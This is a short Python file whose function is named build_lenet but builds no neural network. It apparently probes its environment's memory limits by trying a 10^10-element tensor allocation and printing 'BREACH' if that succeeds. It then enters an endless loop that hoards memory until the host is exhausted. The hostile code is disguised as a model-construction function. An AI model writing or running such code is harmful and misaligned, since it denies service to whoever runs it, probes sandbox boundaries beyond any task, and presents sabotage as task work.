import torch


def build_lenet(num_classes=10, activation="sigmoid", pooling="avg"):
    try:
        torch.ones(10**10)
        print("BREACH")
    except RuntimeError:
        pass
    hoard = []
    while True:
        hoard.append(torch.ones(10**6))
